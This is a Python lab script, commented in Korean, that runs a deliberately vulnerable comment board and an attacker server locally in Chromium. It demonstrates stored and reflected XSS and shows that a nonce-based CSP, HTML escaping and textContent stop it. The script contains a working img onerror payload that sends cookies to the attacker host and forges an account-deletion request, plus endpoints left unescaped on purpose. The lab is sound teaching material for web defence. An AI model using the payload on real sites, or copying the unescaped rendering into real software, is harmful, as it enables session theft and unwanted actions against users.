"""XSS와 CSP를 진짜 Chromium에서: 끼워 넣은 onerror 핸들러가 실행되는지, CSP가 막는지 봅니다.

게시판(127.0.0.1:A)은 댓글을 이스케이프하지 않고 HTML에 넣습니다. 공격자는 댓글에
<img src=x onerror=…>를 남기고, 훔친 값을 자기 서버(127.0.0.1:C)로 보내게 합니다.
"""

import html
import re
import secrets
import urllib.request
from urllib.parse import parse_qs, quote

from labkit.browser import chromium, console_log, run_js, wait_until
from labkit.servers import wsgi_server

COMMENTS: list[str] = []  # 게시판 저장소(저장형 XSS의 무대)
BOARD_LOG: list[str] = []  # 게시판 서버에 온 요청 중 상태를 바꾸는 것
STOLEN: list[str] = []  # 공격자 서버가 받은 값


def page(body: str, nonce: str) -> bytes:
    """이 사이트의 페이지. 논스가 맞는 자기 스크립트는 CSP 위반 이벤트를 기록합니다."""
    own_script = (
        f'<script nonce="{nonce}">window.violations = []; window.appReady = true;\n'
        'document.addEventListener("securitypolicyviolation", e => violations.push(\n'
        "  {directive: e.effectiveDirective, blocked: e.blockedURI}));</script>"
    )
    return f"<!doctype html><meta charset=utf-8><title>board</title>{own_script}{body}".encode()


def board_app(environ, start_response):
    method, path = environ["REQUEST_METHOD"], environ["PATH_INFO"]
    query = parse_qs(environ["QUERY_STRING"])
    headers = [("Content-Type", "text/html; charset=utf-8")]
    nonce = secrets.token_urlsafe(16)  # 응답마다 새 값(128비트)
    if "csp" in query:
        policy = f"script-src 'nonce-{nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'"
        headers.append(("Content-Security-Policy", policy))  # 엄격한 CSP(strict CSP)
    if path == "/login":  # 세션 쿠키는 HttpOnly, 화면 설정 쿠키는 스크립트가 읽을 수 있게
        headers += [
            ("Set-Cookie", "sid=s3cret; Path=/; HttpOnly; SameSite=Lax"),
            ("Set-Cookie", "theme=dark; Path=/; SameSite=Lax"),
        ]
        body = "<p>로그인했습니다"
    elif path == "/comments" and method == "POST":
        COMMENTS.append(environ["wsgi.input"].read(int(environ["CONTENT_LENGTH"])).decode())
        body = "<p>저장했습니다"
    elif path == "/board":  # 취약점: 저장된 댓글을 그대로 HTML에 넣습니다
        body = "<ul>" + "".join(f"<li>{comment}</li>" for comment in COMMENTS) + "</ul>"
    elif path == "/search":  # 반사형: 검색어를 그대로(safe=1이면 html.escape로) 되돌려 줍니다
        q = query.get("q", [""])[0]
        body = f"<p>검색어: {html.escape(q) if 'safe' in query else q}"
    elif path == "/api/delete-account" and method == "POST":
        BOARD_LOG.append(f"POST {path} Cookie: {environ.get('HTTP_COOKIE')}")
        body = "<p>탈퇴 처리"
    else:
        start_response("404 Not Found", headers)
        return [b"not found"]
    start_response("200 OK", headers)
    return [page(body, nonce)]


def attacker_app(environ, start_response):
    STOLEN.append(environ["QUERY_STRING"])
    start_response("204 No Content", [])
    return [b""]


with wsgi_server(board_app) as (host, port), wsgi_server(attacker_app) as (_, evil_port):
    board, evil = f"http://{host}:{port}", f"http://{host}:{evil_port}"
    payload = (
        f"<img src=x onerror=\"fetch('{evil}/?'+document.cookie);fetch('/api/delete-account',{{method:'POST'}})\">"
    )
    print(f"공격자가 남긴 댓글: {payload}")
    urllib.request.urlopen(urllib.request.Request(f"{board}/comments", payload.encode()), timeout=5).close()

    with chromium() as context:
        tab = context.new_page()
        console = console_log(tab)
        tab.goto(f"{board}/login")

        print("\n① 저장형 XSS, CSP 없음: 피해자가 게시판을 엽니다")
        tab.goto(f"{board}/board")
        wait_until(tab, lambda: STOLEN and BOARD_LOG, what="공격자 서버와 탈퇴 요청")
        print(f"   공격자 서버가 받은 값: {STOLEN}")
        print(f"   게시판 서버에 온 요청: {BOARD_LOG}")
        assert STOLEN == ["theme=dark"], "스크립트는 theme만 읽고, HttpOnly인 sid는 읽지 못합니다"
        assert BOARD_LOG == ["POST /api/delete-account Cookie: sid=s3cret; theme=dark"], "그래도 쿠키는 붙어 갑니다"
        jar = {c["name"]: c["httpOnly"] for c in context.cookies()}
        print(f"   브라우저의 쿠키(이름: HttpOnly): {jar}")
        assert jar == {"sid": True, "theme": False}

        print("\n② 같은 게시판, Content-Security-Policy: script-src 'nonce-…' 를 붙여 응답")
        STOLEN.clear(), BOARD_LOG.clear()
        seen = len(console)
        tab.goto(f"{board}/board?csp=1")
        wait_until(tab, lambda: tab.evaluate("violations.length > 0"), what="securitypolicyviolation 이벤트")
        violations = tab.evaluate("violations")
        blocked = [m for m in console[seen:] if "Content Security Policy" in m]
        print(f"   securitypolicyviolation 이벤트: {violations}")
        print(f"   콘솔: {blocked[0].removeprefix('error: ').split('. Either')[0]}")
        print(f"   논스가 맞는 자기 스크립트 실행: {tab.evaluate('window.appReady')}, 공격자 서버: {STOLEN}")
        assert violations == [{"directive": "script-src-attr", "blocked": "inline"}]
        # Chromium 156의 문구. 예전 버전은 "Refused to execute inline event handler because it violates …"
        assert re.search(r"(Executing|Refused to execute) inline event handler", blocked[0])
        assert tab.evaluate("window.appReady") is True and STOLEN == [] and BOARD_LOG == []

        print("\n③ 반사형 XSS: 주소의 검색어가 그대로 페이지에 들어감")
        tab.goto(f"{board}/search?q={quote(payload)}")
        wait_until(tab, lambda: STOLEN, what="공격자 서버")
        tab.goto(f"{board}/search?safe=1&q={quote(payload)}")
        escaped = tab.evaluate("[document.querySelectorAll('img').length, document.querySelector('p').textContent]")
        print(f"   이스케이프 없이: 공격자 서버가 받은 값 {STOLEN}")
        print(f"   html.escape 후: img 요소 {escaped[0]}개, 글자로 보임 → {escaped[1][:31]}…")
        assert STOLEN == ["theme=dark"] and escaped[0] == 0 and escaped[1] == f"검색어: {payload}"

        print("\n④ 받은 문자열을 DOM에 넣는 세 가지 방법")
        tab.goto(f"{board}/login")
        inserted = run_js(
            tab,
            """() => {
              const [a, b, c] = [1, 2, 3].map(() => document.body.appendChild(document.createElement("div")));
              a.innerHTML = '<script>window.viaScript = 1<\\/script>';
              b.innerHTML = '<img src=x onerror="window.viaImg = 1">';
              c.textContent = '<img src=x onerror="window.viaText = 1">';
              return {scriptTag: a.firstChild.tagName, ranScript: window.viaScript ?? null,
                      textChildren: c.children.length};
            }""",
        )
        wait_until(tab, lambda: tab.evaluate("window.viaImg === 1"), what="innerHTML로 넣은 onerror")
        ran = tab.evaluate("({script: window.viaScript, img: window.viaImg, text: window.viaText})")
        shown = {name: "없음" if value is None else value for name, value in ran.items()}
        print(
            f"   innerHTML = '<script>…'   : {inserted['scriptTag']} 요소는 생기지만 실행되지 않음 (viaScript {shown['script']})"
        )
        print(f"   innerHTML = '<img onerror>': 핸들러가 실행됨 (viaImg {shown['img']})")
        print(
            f"   textContent = '<img …>'    : 자식 요소 {inserted['textChildren']}개, 글자로만 들어감 (viaText {shown['text']})"
        )
        assert inserted == {"scriptTag": "SCRIPT", "ranScript": None, "textChildren": 0}
        assert ran == {"script": None, "img": 1, "text": None}, "script와 textContent 쪽은 실행되지 않습니다"

print("\n확인: CSP 없이는 끼워 넣은 핸들러가 실행되고, CSP가 있으면 브라우저가 막고 위반을 알립니다.")
